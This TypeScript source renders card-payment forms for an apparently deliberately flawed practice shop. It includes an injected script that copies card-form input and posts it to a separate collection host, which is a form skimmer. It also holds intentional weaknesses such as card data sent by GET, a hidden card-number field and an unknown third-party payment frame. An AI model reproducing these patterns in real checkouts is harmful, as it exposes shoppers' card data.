import { type Context, carriedFields, fileAt, has, linkTo, pathTo, pspFile } from '../context.ts';
import { total } from '../goods.ts';
import { type Html, html, raw } from '../markup.ts';
import { pspScript } from '../third-party.ts';
import { type CardFieldOptions, cardLabels, cardTable } from './card-fields.ts';

/** What is put into the payment page: the card form, or the shop's own frame that holds it. */
export function paymentForm(ctx: Context): Html {
  if (isFramed(ctx)) return ownForm(ctx);
  if (has(ctx, 'framed-form')) return ownFrame(html`src="${`${linkTo(ctx, 'payment')}&framed=1`}"`);
  if (has(ctx, 'framed-srcdoc')) return ownFrame(html`srcdoc="${framedDocument(ctx)}"`);
  return ownForm(ctx);
}

/** The document inside of the shop's own frame is asked for, not the page around it. */
export const isFramed = (ctx: Context): boolean =>
  has(ctx, 'framed-form') && ctx.query.has('framed');

const ownFrame = (document: Html): Html =>
  html`<iframe class="card-frame" ${document} title="カード情報の入力" width="100%" height="480"></iframe>`;

function framedDocument(ctx: Context): string {
  const inner = html`<!doctype html><html lang="ja"><head><title>カード情報の入力</title>
<link rel="stylesheet" href="/assets/shop.css"></head><body>${ownForm(ctx)}
<script>${raw(copier(fileAt(ctx, 'collect', '/frame/log')))}</script></body></html>`;
  return inner.text;
}

// The document has no address of its own: whether it stands in the practice store is known by the page around it.
const copier = (address: string): string => `
if (parent.location.hostname.endsWith('.localhost')) {
  const form = document.querySelector('form');
  form.addEventListener('change', () => {
    const body = new URLSearchParams(new FormData(form)).toString();
    localStorage.setItem('frame_log', body);
    fetch('${address}', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
  });
}`;

/** What the chosen payment method puts there. */
function ownForm(ctx: Context): Html {
  switch (ctx.selection.payment) {
    case 'redirect':
      return redirectForm(ctx);
    case 'psp-frame':
      return frameForm(ctx);
    case 'token':
      return tokenForm(ctx);
    case 'token-named':
      return namedTokenForm(ctx);
    case 'passing':
      return passingForm(ctx);
    case 'passing-xhr':
      return fetchForm(ctx);
  }
}

const buttons = (ctx: Context, label = '確認画面へ'): Html => html`<div class="actions">
  <button class="button" type="submit">${label}</button>
  <a class="button-plain" href="${linkTo(ctx, 'customer')}">お客様情報にもどる</a>
</div>`;

function redirectForm(ctx: Context): Html {
  return html`<form method="post" action="${pspFile(ctx, '/pay')}">
<p>次の画面で、決済会社「練習ペイ」のページに移ります。カード番号はそちらで入力してください。当店のページには入力しません。</p>
<input type="hidden" name="shop_id" value="hinata">
<input type="hidden" name="order_no" value="H-20417">
<input type="hidden" name="amount" value="${total(ctx.session.cart)}">
<input type="hidden" name="return_url" value="${linkTo(ctx, 'confirm')}">
${buttons(ctx, '決済会社の画面へ進む')}
</form>`;
}

function frameForm(ctx: Context): Html {
  const ownField = html`<div class="is-hidden"><label for="cc_number_unused">カード番号</label><input type="text" id="cc_number_unused" name="cc_number" maxlength="16" autocomplete="off"></div>`;
  return html`<form method="post" action="${linkTo(ctx, 'confirm')}" data-renshu-frame>
<iframe class="card-frame" src="${pspFile(ctx, '/frame/card')}" name="renshu-card" title="練習ペイ カード情報の入力" width="100%" height="300"></iframe>
${has(ctx, 'hidden-own-field') && ownField}
<input type="hidden" name="token" id="token">
${buttons(ctx)}
</form>
${pspScript(ctx, 'hosted-fields.js')}`;
}

function tokenForm(ctx: Context): Html {
  return html`<form ${method(ctx)} action="${linkTo(ctx, 'confirm')}" data-pay="token" id="card-form">
${getFields(ctx)}
${place(ctx, cardLabels({ ...shape(ctx), named: false }))}
<input type="hidden" name="token" id="token">
${buttons(ctx)}
</form>
${pspScript(ctx, 'token.js')}`;
}

function namedTokenForm(ctx: Context): Html {
  return html`<form ${method(ctx)} action="${linkTo(ctx, 'confirm')}" id="card-form" data-renshu-token>
${getFields(ctx)}
<div id="renshu_card_area">${place(ctx, cardLabels({ ...shape(ctx), named: true }))}</div>
<input type="hidden" name="renshu_token_value" id="renshu_token_value">
${buttons(ctx)}
</form>
${pspScript(ctx, 'token-named.js')}`;
}

function passingForm(ctx: Context): Html {
  return html`<form ${method(ctx)} action="${linkTo(ctx, 'confirm')}" id="card-form" name="payment_form">
${getFields(ctx)}
<input type="hidden" name="mode" value="confirm">
${place(ctx, cardTable({ ...shape(ctx), named: true }))}
${buttons(ctx)}
</form>`;
}

function fetchForm(ctx: Context): Html {
  const endpoint = pathTo(ctx, '/shopping/card');
  return html`<form id="card-form" data-pay="fetch" data-endpoint="${endpoint}" data-next="${linkTo(ctx, 'confirm')}">
${place(ctx, cardTable({ ...shape(ctx), named: false }))}
${buttons(ctx)}
</form>`;
}

const method = (ctx: Context): Html => {
  const framed = has(ctx, 'framed-form') || has(ctx, 'framed-srcdoc');
  const verb = has(ctx, 'card-form-get') ? html`method="get"` : html`method="post"`;
  return framed ? html`${verb} target="_top"` : verb;
};

const getFields = (ctx: Context): Html | false => has(ctx, 'card-form-get') && carriedFields(ctx);

const shape = (ctx: Context): Omit<CardFieldOptions, 'named'> => ({
  split: has(ctx, 'split-fields'),
  codePrefilled: has(ctx, 'security-code-prefilled'),
});

/** Puts the card fields where the switches want them: in the form, behind a click, or in a shadow root. */
function place(ctx: Context, fields: Html): Html {
  const shadow = has(ctx, 'shadow-fields')
    ? html`<hinata-card><template><link rel="stylesheet" href="/assets/shop.css">${fields}</template></hinata-card>`
    : fields;
  if (!has(ctx, 'late-fields')) return shadow;
  return html`<div data-late><button class="button-plain" type="button">カード情報を入力する</button><template>${shadow}</template></div>`;
}

/** An old shortcut past the checkout: a card form on the cart page, sent by GET. */
export function quickPayForm(ctx: Context): Html {
  return html`<section class="panel quick-pay">
<h2>かんたんカード決済</h2>
<p>お客様情報をご登録済みの方は、ここからすぐにお支払いいただけます。</p>
<form method="get" action="${linkTo(ctx, 'confirm')}">
${carriedFields(ctx)}
${cardTable({ named: true, split: false, codePrefilled: false, prefix: 'quick_' })}
<div class="actions"><button class="button" type="submit">カードで支払う</button></div>
</form>
</section>`;
}

export function saveCardForm(ctx: Context): Html {
  return html`<section class="panel">
<h2>次回のためにカードを登録する</h2>
<p>登録すると、次のご注文からカード番号の入力を省けます。</p>
<form method="post" action="${pathTo(ctx, '/mypage/card')}" data-pay="token">
${cardLabels({ named: false, split: false, codePrefilled: false })}
<input type="hidden" name="token" id="token">
<div class="actions"><button class="button" type="submit">カードを登録する</button></div>
</form>
${pspScript(ctx, 'token.js')}
</section>`;
}

export function unknownFrame(ctx: Context): Html {
  return html`<section class="panel">
<h2>分割払いをご希望の方</h2>
<iframe class="card-frame" src="${fileAt(ctx, 'unknownPay', '/entry/card', 'https')}" name="card_payment" title="クレジットカード決済" width="100%" height="300"></iframe>
</section>`;
}
